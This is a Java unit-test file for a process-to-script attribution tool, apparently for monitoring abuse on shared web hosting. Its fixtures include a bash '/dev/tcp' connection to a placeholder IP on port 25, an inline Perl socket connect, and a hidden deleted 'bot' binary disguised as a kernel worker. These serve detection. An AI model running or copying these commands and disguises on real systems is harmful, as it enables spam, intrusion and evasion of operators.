package weir.agent.process;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import weir.agent.process.Script.By;

final class ScriptFinderTest {
  @TempDir private Path folder;
  private MadeProc proc;

  @BeforeEach
  void one() {
    proc = new MadeProc(folder);
  }

  private Optional<Script> found() {
    Processes processes = proc.processes();
    return new ScriptFinder(processes, HomeRoots.USUAL::hold).of(processes.read(9).orElseThrow());
  }

  private void process(String program, String cwd, String... line) throws IOException {
    proc.with(9, 1, 2001, program, cwd, line);
  }

  @Test
  void theArgumentOfAnInterpreterFromTheFolderItWorksIn() throws IOException {
    process("/usr/bin/perl", "/home/shop/www", "perl", "-w", "../cgi/mailer.pl", "list.txt");
    assertThat(found()).contains(new Script("/home/shop/cgi/mailer.pl", By.ARGUMENT));
    process("/usr/bin/php8.2", "/", "php", "-d", "memory_limit=1G", "/home/shop/cron.php");
    assertThat(found()).contains(new Script("/home/shop/cron.php", By.ARGUMENT));
  }

  @Test
  void codeOnTheCommandLineIsNoFile() throws IOException {
    process("/usr/bin/perl", "/var/tmp", "perl", "-e", "use Socket; connect(...)");
    assertThat(found()).isEmpty();
    process("/usr/bin/bash", "/home/shop/www", "bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/25");
    assertThat(found()).contains(new Script("/home/shop/www", By.FOLDER));
  }

  @Test
  void aWorkerOfAWebServerByWhatItHasOpenElseByItsFolder() throws IOException {
    process("/usr/sbin/php-fpm8.2", "/home/shop/www/up", "php-fpm: pool shop");
    assertThat(found()).contains(new Script("/home/shop/www/up", By.FOLDER));
    proc.open(9, 7, "/home/shop/www/up/x.php").open(9, 3, "socket:[1]");
    assertThat(found()).contains(new Script("/home/shop/www/up/x.php", By.OPEN_FILE));
    proc.environment(9, "HOME=/", "SCRIPT_FILENAME=/home/shop/www/index.php");
    assertThat(found()).contains(new Script("/home/shop/www/index.php", By.ENVIRONMENT));
  }

  @Test
  void aProgramThatLiesWithACustomerIsItsOwnScript() throws IOException {
    process("/home/shop/tmp/.x/bot (deleted)", "/", "[kworker/0:1]");
    assertThat(found()).contains(new Script("/home/shop/tmp/.x/bot (deleted)", By.PROGRAM));
    process("/usr/lib/postfix/sbin/smtp", "/var/spool/postfix", "smtp", "-n", "smtp");
    assertThat(found()).isEmpty();
  }

  @Test
  void aSessionOfSshIsItsUsersPortForwarding() throws IOException {
    process("/usr/sbin/sshd", "/", "sshd: shop@pts/0");
    assertThat(sshUser()).contains("shop");
    process("/usr/lib/openssh/sshd-session (deleted)", "/", "sshd-session: shop");
    assertThat(sshUser()).contains("shop");
    for (String title : new String[] {"sshd: shop [priv]", "sshd: /usr/sbin/sshd -D [listener]"}) {
      process("/usr/sbin/sshd", "/", title);
      assertThat(sshUser()).isEmpty();
    }
    process("/home/shop/bin/sshd", "/", "sshd: other");
    assertThat(sshUser()).isEmpty();
  }

  private Optional<String> sshUser() {
    return SshForwarding.user(proc.processes().read(9).orElseThrow());
  }

  @Test
  void aCgiProgramIsToldWhatWasAsked() throws IOException {
    process("/usr/bin/perl", "/home/shop/www", "perl", "x.cgi");
    proc.environment(
        9,
        "REQUEST_METHOD=POST",
        "REQUEST_URI=/x.cgi?key=1",
        "HTTP_HOST=shop.example",
        "REMOTE_ADDR=192.0.2.7");
    WebRequest asked = WebRequest.ofEnvironment(proc.processes(), 9).orElseThrow();
    assertThat(asked.shown()).isEqualTo("POST /x.cgi from 192.0.2.7");
    assertThat(asked.site()).contains("shop.example");
  }

  @Test
  void aDeletedFolderMakesNoPath() throws IOException {
    process("/usr/bin/perl", "/home/shop (deleted)", "perl", "x.pl");
    assertThat(found()).contains(new Script("/home/shop (deleted)", By.FOLDER));
  }
}
